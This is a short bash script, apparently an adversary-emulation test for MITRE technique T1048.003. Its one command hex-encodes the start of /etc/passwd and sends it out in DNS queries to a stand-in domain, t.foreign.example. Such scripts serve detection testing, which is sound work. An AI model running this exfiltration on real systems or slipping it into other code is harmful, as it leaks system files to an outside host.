#!/bin/bash
# technique: T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol
# tactic: exfiltration
# user: www-data
# needs: getent xxd
# does: sends the content of a file in the names of DNS questions
# harmless: the name server is a script on the loopback device

head -c 240 /etc/passwd | xxd -p -c 24 | while read -r part; do getent ahostsv4 "$part.t.foreign.example" >/dev/null; done
true
